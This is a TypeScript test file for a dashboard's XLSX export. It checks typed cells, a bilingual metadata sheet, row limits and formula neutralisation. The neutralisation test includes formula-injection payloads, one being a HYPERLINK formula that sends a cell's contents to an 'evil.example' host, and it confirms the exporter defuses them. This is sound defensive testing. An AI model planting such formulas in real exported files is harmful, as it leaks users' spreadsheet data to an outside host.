// XLSX export: each workbook is read back with exceljs (the library Excel
// files are checked with, independent of how we wrote them): typed cells,
// header row, the metadata sheet, formula-like text neutralised.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../../dashboard/src/export/csv.ts';
import { localTimestamp, toXlsx, xlsxCell, XLSX_MAX_ROWS } from '../../../dashboard/src/export/xlsx.ts';

async function read(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  expect([...bytes.slice(0, 2)]).toEqual([0x50, 0x4b]); // a zip (PK)
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  return wb;
}

/** Cell values of a sheet, row by row (row 1 first), as exceljs reads them. */
function values(sheet: ExcelJS.Worksheet): unknown[][] {
  const out: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    out.push((row.values as unknown[]).slice(1));
  });
  return out;
}

const META = { title: '客户清单 Customer list', filters: [['区域', '云岭县, 河口区'], ['Period', '2026-01 – 2026-06']] as [string, string][], dataAsOf: '2026-06-30', exportedAt: new Date('2026-07-01T08:30:15Z') };

describe('xlsx export', () => {
  it('writes a header row and typed cells: integers, decimals, dates as numbers and dates; text, null and BigInt', async () => {
    const columns = [
      { key: 'name', label: '区域', type: 'text' as const },
      { key: 'n', label: 'Customers', type: 'integer' as const },
      { key: 'kwh', label: '用电量 kWh', type: 'number' as const },
      { key: 'month', label: 'Month', type: 'date' as const },
      { key: 'free', label: 'Untyped' },
    ];
    const rows = [
      { name: '云岭县', n: 1234n, kwh: 5678.25, month: '2026-01-01', free: 1.5 },
      { name: 'b', n: -3, kwh: -0.125, month: new Date(Date.UTC(2026, 1, 1)), free: 'text' },
      { name: null, n: null, kwh: null, month: null, free: null },
      { name: '12', n: '42', kwh: 1e-7, month: Date.UTC(2025, 11, 31), free: new Date(Date.UTC(2026, 2, 4, 5, 6, 7)) },
    ];
    const wb = await read(await toXlsx(columns, rows, META));
    expect(wb.worksheets.map((s) => s.name)).toEqual(['Data', 'About']);
    const sheet = wb.worksheets[0]!;
    const v = values(sheet);
    expect(v[0]).toEqual(['区域', 'Customers', '用电量 kWh', 'Month', 'Untyped']);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(v[1]).toEqual(['云岭县', 1234, 5678.25, new Date(Date.UTC(2026, 0, 1)), 1.5]);
    expect(v[2]).toEqual(['b', -3, -0.125, new Date(Date.UTC(2026, 1, 1)), 'text']);
    // An all-null row: empty cells, nothing written.
    expect((v[3] ?? []).filter((x) => x !== undefined && x !== null)).toEqual([]);
    expect(v[4]).toEqual(['12', 42, 1e-7, new Date(Date.UTC(2025, 11, 31)), new Date(Date.UTC(2026, 2, 4, 5, 6, 7))]);
    // Types as Excel stores them: numbers are numbers, dates are dates, text stays text even when it looks like a number.
    expect(sheet.getCell('A5').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('C3').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('D2').type).toBe(ExcelJS.ValueType.Date);
    expect(sheet.getCell('D2').numFmt).toBe('yyyy-mm-dd');
    expect(sheet.getCell('E5').numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(sheet.rowCount).toBe(5);
  });

  it('has a second sheet with the title, the filters, data as-of and time of export', async () => {
    const wb = await read(await toXlsx([{ key: 'a', label: 'A' }], [{ a: 1 }, { a: 2 }], META));
    const about = values(wb.getWorksheet('About')!);
    const byLabel = new Map(about.filter((r) => r.length > 0).map((r) => [r[0], r[1]]));
    expect(byLabel.get('Title')).toBe('客户清单 Customer list');
    expect(byLabel.get('Data as of')).toEqual(new Date(Date.UTC(2026, 5, 30)));
    expect(byLabel.get('Exported at')).toBe(localTimestamp(META.exportedAt));
    expect(byLabel.get('Rows')).toBe(2);
    expect(byLabel.get('区域')).toBe('云岭县, 河口区');
    expect(byLabel.get('Period')).toBe('2026-01 – 2026-06');
    expect(about.findIndex((r) => r[0] === 'Filters')).toBeGreaterThan(0);
  });

  it('labels the metadata sheet in Chinese for zh-CN, and says when there are no filters', async () => {
    const wb = await read(await toXlsx([{ key: 'a', label: 'A' }], [], { ...META, filters: [], dataAsOf: null, locale: 'zh-CN' }));
    expect(wb.worksheets.map((s) => s.name)).toEqual(['数据', '说明']);
    const about = values(wb.getWorksheet('说明')!);
    const labels = about.map((r) => r[0]);
    expect(labels).toEqual(expect.arrayContaining(['标题', '数据截至', '导出时间', '行数', '筛选条件', '无']));
    expect(values(wb.getWorksheet('数据')!)).toEqual([['A']]);
  });

  it('neutralises formula-like text in data, headers and metadata, and leaves numbers alone', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-5'];
    const rows = formulas.map((f) => ({ t: f, n: -5 }));
    const wb = await read(await toXlsx([{ key: 't', label: '=HEADER()' }, { key: 'n', label: 'N', type: 'integer' }], rows, {
      ...META, title: '=evil()', filters: [['@who', '+1']],
    }));
    const data = values(wb.worksheets[0]!);
    expect(data[0]).toEqual(["'=HEADER()", 'N']);
    // XML turns a lone CR into LF when read (end-of-line handling): the cell still starts with the quote.
    expect(data.slice(1).map((r) => r[0])).toEqual(formulas.map((f) => `'${f}`.replace(/\r/g, '\n')));
    expect(data.slice(1).map((r) => r[1])).toEqual(formulas.map(() => -5));
    // No cell anywhere is a formula.
    for (const s of wb.worksheets) s.eachRow((row) => row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
    const about = values(wb.worksheets[1]!);
    expect(about.find((r) => r[0] === 'Title')?.[1]).toBe("'=evil()");
    expect(about.find((r) => r[0] === "'@who")?.[1]).toBe("'+1");
    for (const t of ['云岭县', 'a=b', 'email@example.com']) expect(xlsxCell(t, 'text')).toBe(neutraliseFormula(t));
  });

  it('cell conversion: BigInt to number, non-finite and unparseable to empty', () => {
    expect(xlsxCell(12345678901n, undefined)).toBe(12345678901);
    expect(xlsxCell(7n, 'integer')).toBe(7);
    expect(xlsxCell(Number.NaN, 'number')).toBeNull();
    expect(xlsxCell(Number.POSITIVE_INFINITY, undefined)).toBeNull();
    expect(xlsxCell('not a date', 'date')).toBeNull();
    expect(xlsxCell('abc', 'number')).toBeNull();
    expect(xlsxCell(true, undefined)).toBe(true);
  });

  it('refuses more rows than an Excel sheet holds, with a message saying what to do', async () => {
    const many = { length: XLSX_MAX_ROWS + 1 } as unknown as object[];
    await expect(toXlsx([{ key: 'a', label: 'A' }], many, META)).rejects.toThrow(/at most 1048575.*CSV or Parquet/);
  });
});
